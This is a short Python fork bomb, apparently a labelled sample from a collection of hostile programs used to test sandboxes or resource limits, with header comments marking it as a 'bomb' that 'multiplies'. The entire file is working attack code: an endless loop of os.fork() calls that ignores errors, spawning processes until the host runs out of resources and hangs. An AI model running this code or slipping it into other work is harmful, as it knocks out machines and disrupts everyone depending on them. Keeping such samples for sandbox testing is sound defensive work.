# Forks without end.
# class: bombs
# armed: multiplies
# endings: timeout, finished

import os
while True:
    try:
        os.fork()
    except OSError:
        pass
